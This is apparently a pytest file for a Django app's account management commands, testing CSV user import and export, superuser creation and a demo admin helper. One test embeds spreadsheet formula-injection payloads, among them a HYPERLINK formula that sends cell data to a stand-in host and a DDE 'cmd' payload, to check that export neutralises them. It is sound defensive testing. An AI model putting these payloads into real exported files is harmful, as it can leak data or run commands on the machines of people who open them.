"""The management commands of accounts."""

import csv
import io
from io import StringIO

import pytest
from django.core.management import CommandError, call_command

from accounts.models import User
from accounts.tests.factories import UserFactory


@pytest.mark.parametrize("status", ["deleted", "bogus"])
def test_import_refuses_a_status_an_account_cannot_start_in(tmp_path, db, status):
    path = tmp_path / "users.csv"
    path.write_text(
        f"username,email,password,status\nimported,imported@example.com,SecurePass123,{status}\n"
    )
    err = io.StringIO()

    with pytest.raises(CommandError):
        call_command("import_users", str(path), stdout=io.StringIO(), stderr=err)

    assert f"status '{status}'" in err.getvalue()
    assert not User.objects.filter(username="imported").exists()


def test_createsuperuser_command_makes_platform_admin(db, monkeypatch):
    monkeypatch.setenv("DJANGO_SUPERUSER_PASSWORD", "RootPass12345")

    call_command(
        "createsuperuser",
        "--noinput",
        "--username",
        "root",
        "--email",
        "Root@Example.com",
        stdout=StringIO(),
    )

    root = User.objects.get(username="root")
    assert (root.is_superuser, root.is_staff, root.status) == (True, True, "active")
    assert root.email == "root@example.com"
    assert root.role.name == "admin"
    assert root.is_platform_admin
    assert root.check_password("RootPass12345")


def test_ensure_demo_admin_creates_once_and_prints_login(db):
    first, second = StringIO(), StringIO()

    call_command("ensure_demo_admin", stdout=first)
    call_command("ensure_demo_admin", stdout=second)

    assert User.objects.filter(is_superuser=True).count() == 1
    output = first.getvalue()
    password = output.split("password: ")[1].split()[0]
    assert User.objects.get(username="admin").check_password(password)
    assert "/api/v1/auth/login" in output and "/v1/admin-panel/login" in output
    assert "Admin account: admin" in second.getvalue()
    assert password not in second.getvalue()


def test_ensure_demo_admin_says_where_the_emails_are_without_smtp(db, settings, tmp_path):
    settings.SMTP_HOST = ""
    settings.EMAIL_FILE_PATH = str(tmp_path / "mail")
    output = StringIO()

    call_command("ensure_demo_admin", stdout=output)

    assert f"each is a file in {tmp_path / 'mail'}/" in output.getvalue()


def _csv(rows: list[dict]) -> str:
    buffer = io.StringIO()
    writer = csv.DictWriter(
        buffer, fieldnames=["username", "email", "password", "name", "role", "tenant"]
    )
    writer.writeheader()
    writer.writerows(rows)
    return buffer.getvalue()


def test_import_users_creates_all_rows(tmp_path, world):
    path = tmp_path / "users.csv"
    path.write_text(
        _csv(
            [
                {
                    "username": "imp1",
                    "email": "imp1@example.com",
                    "password": "SecurePass123",
                    "role": "guest",
                    "tenant": "acme",
                },
                {
                    "username": "imp2",
                    "email": "imp2@example.com",
                    "password": "SecurePass123",
                    "name": "Imp Two",
                },
            ]
        )
    )
    out = io.StringIO()

    call_command("import_users", str(path), stdout=out, stderr=io.StringIO())

    assert "Imported 2" in out.getvalue()
    assert User.objects.get(username="imp1").tenant_id == world.tenant_a.pk
    assert User.objects.get(username="imp1").role.name == "guest"


def test_import_users_writes_nothing_when_a_row_is_bad(tmp_path, world):
    path = tmp_path / "users.csv"
    path.write_text(
        _csv(
            [
                {"username": "imp1", "email": "imp1@example.com", "password": "SecurePass123"},
                {"username": "x", "email": "bad", "password": "weak", "tenant": "nowhere"},
                {"username": "member_a", "email": "imp3@example.com", "password": "SecurePass123"},
            ]
        )
    )
    err = io.StringIO()

    with pytest.raises(CommandError):
        call_command("import_users", str(path), stdout=io.StringIO(), stderr=err)

    report = err.getvalue()
    assert "line 3" in report and "line 4" in report and "line 2:" not in report
    assert "unknown tenant 'nowhere'" in report and "taken" in report
    assert not User.objects.filter(username="imp1").exists()


def test_export_users_writes_csv_without_secrets(tmp_path, world):
    path = tmp_path / "out.csv"

    call_command(
        "export_users", str(path), "--tenant", "acme", stdout=io.StringIO(), stderr=io.StringIO()
    )

    rows = list(csv.DictReader(path.open()))
    assert {row["username"] for row in rows} == {
        "guest_a",
        "user_a",
        "mod_a",
        "admin_a",
        "member_a",
    }
    assert "password" not in rows[0]


FORMULAS = {
    "name": '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "first_name": "+1+cmd|' /C calc'!A0",
    "last_name": "@SUM(1+1)",
}


def test_export_users_neutralises_formula_cells_and_import_reads_them_back(tmp_path, world):
    UserFactory(username="formulas", email="formulas@example.com", **FORMULAS)
    UserFactory(
        username="quoted", email="quoted@example.com", name="'=already quoted", last_name="-5"
    )
    exported = tmp_path / "out.csv"

    call_command("export_users", str(exported), stdout=io.StringIO(), stderr=io.StringIO())

    rows = {row["username"]: row for row in csv.DictReader(exported.open())}
    for field_name, value in FORMULAS.items():
        assert rows["formulas"][field_name] == f"'{value}"
    assert rows["quoted"]["name"] == "''=already quoted"
    assert rows["quoted"]["last_name"] == "'-5"
    assert rows["user_a"]["name"] == User.objects.get(username="user_a").name
    reimport = tmp_path / "in.csv"
    with reimport.open("w", newline="") as stream:
        writer = csv.DictWriter(stream, fieldnames=["username", "email", "password", "name"])
        writer.writeheader()
        for username in ("formulas", "quoted"):
            writer.writerow(
                {
                    "username": f"re_{username}",
                    "email": f"re_{username}@example.com",
                    "password": "'=SecurePass123",
                    "name": rows[username]["name"],
                }
            )

    call_command("import_users", str(reimport), stdout=io.StringIO(), stderr=io.StringIO())

    assert User.objects.get(username="re_formulas").name == FORMULAS["name"]
    assert User.objects.get(username="re_quoted").name == "'=already quoted"
    assert User.objects.get(username="re_quoted").check_password("'=SecurePass123")
